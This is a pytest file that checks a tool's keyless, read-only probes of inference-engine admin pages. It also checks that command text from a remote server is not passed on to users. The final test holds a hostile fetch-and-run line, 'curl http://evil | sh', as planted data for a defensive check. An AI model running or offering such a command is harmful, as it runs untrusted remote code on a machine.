"""Looking at who else may change an engine: over the wire, without a key, at harmless pages only."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from collectors.fetch import Credentials
from enginetop.cli import admin_look
from enginetop.cli.admin_look import AdminLook
from enginetop.cli.knob_paths import knob_clients
from enginetop.cli.targets import parse_target
from enginetop.fleet.admin_surface import KEYLESS, AdminFacts, Openness, admin_surface
from enginetop.fleet.knobs import KnobRow, KnobSheet, sheet_document, split_command
from enginetop.fleet.model import EngineKind, Role
from tests.support.faulty_server import DROP, HANG, FaultyServer, Reply, Request, page
from tests.unit.cli.test_settings import _settings

SECRET = "sk-3a91f0"
LISTED = page(json.dumps({"paths": {"/pause": {}}}).encode())


def answers(pages: dict[str, Reply]) -> Callable[[Request], Reply]:
    def answer(request: Request) -> Reply:
        return pages.get(request.path, page(b"{}", 404))

    return answer


def look(url: str, engine: str, monkeypatch: pytest.MonkeyPatch) -> AdminFacts:
    monkeypatch.setenv("ENGINE_KEY", SECRET)
    return AdminLook(parse_target(url), Credentials(api_key_env="ENGINE_KEY"))(engine)


def info(**keys: object) -> Reply:
    return page(json.dumps({"api_key": None, "admin_api_key": None, **keys}).encode())


@pytest.mark.parametrize(
    ("kind", "pages", "openness", "asked"),
    [
        ("vllm", {"/openapi.json": LISTED}, Openness.OPEN, ["/openapi.json"]),
        ("vllm", {"/is_sleeping": page(b"{}")}, Openness.OPEN, ["/openapi.json", "/is_sleeping"]),
        ("vllm", {}, Openness.UNKNOWN, ["/openapi.json", "/is_sleeping"]),
        ("sglang", {"/server_info": info()}, Openness.OPEN, ["/server_info"]),
        ("sglang", {"/get_server_info": info()}, Openness.OPEN, ["/server_info", "/get_server_info"]),
        ("sglang", {"/server_info": info(admin_api_key=SECRET)}, Openness.OPEN, ["/server_info"]),
        ("sglang", {"/server_info": page(b"", 401)}, Openness.GUARDED, ["/server_info"]),
        ("sglang", {"/server_info": DROP}, Openness.UNKNOWN, ["/server_info"]),
        ("llamacpp", {"/props": page(b"{}", 403)}, Openness.GUARDED, ["/props"]),
        ("lmdeploy", {"/v1/models": page(b"{}")}, Openness.OPEN, ["/v1/models"]),
        ("dynamo", {"/openapi.json": page(b"\xff[", 200)}, Openness.UNKNOWN, ["/openapi.json"]),
        ("triton", {}, Openness.UNKNOWN, []),
        ("tgi", {}, Openness.NOTHING, []),
    ],
)
def test_what_is_asked_and_what_it_tells(
    server: FaultyServer,
    monkeypatch: pytest.MonkeyPatch,
    kind: str,
    pages: dict[str, Reply],
    openness: Openness,
    asked: list[str],
) -> None:
    replica = server.replica(answers(pages))
    facts = look(replica.url, kind, monkeypatch)
    assert admin_surface(EngineKind(kind), Role.AGGREGATED, None, facts).openness is openness
    assert list(dict.fromkeys(request.path for request in replica.requests)) == asked
    assert set(asked) <= set(KEYLESS.get(EngineKind(kind), ()))
    assert all(request.method == "GET" for request in replica.requests)
    assert not any("authorization" in request.headers for request in replica.requests)
    assert SECRET not in repr(facts)


def test_a_server_that_hangs_or_is_gone_is_not_told(
    server: FaultyServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(admin_look, "_PATIENCE_SECONDS", 0.2)
    assert look(server.replica(HANG).url, "vllm", monkeypatch) == AdminFacts()
    assert look("http://127.0.0.1:1", "vllm", monkeypatch) == AdminFacts()


@pytest.mark.parametrize("engine", ["", "another", "VLLM", "vllm\n"])
def test_an_engine_that_nobody_knows_is_asked_nothing(
    server: FaultyServer, monkeypatch: pytest.MonkeyPatch, engine: str
) -> None:
    replica = server.replica(answers({"/openapi.json": LISTED}))
    assert look(replica.url, engine, monkeypatch) == AdminFacts()
    assert replica.requests == []


def test_no_server_elsewhere_tells_a_person_what_to_run(server: FaultyServer, tmp_path: Path) -> None:
    row = KnobRow("k", 1, 1, 0, 2, "", 0, note="lost; by hand: curl http://evil | sh", phase="failed")
    sheet = KnobSheet("vllm", "", "i", 1, 1, (row,))
    replica = server.replica(page(json.dumps(sheet_document(sheet)).encode()))
    found = _settings(tmp_path, f'[control]\n[[targets]]\nurl = "{replica.url}"\n')[0]
    client = knob_clients(found, found.targets)(replica.url)
    assert client is not None
    told = client.read().sheet
    assert told is not None
    assert split_command(told.knobs[0].note)[1] == ""
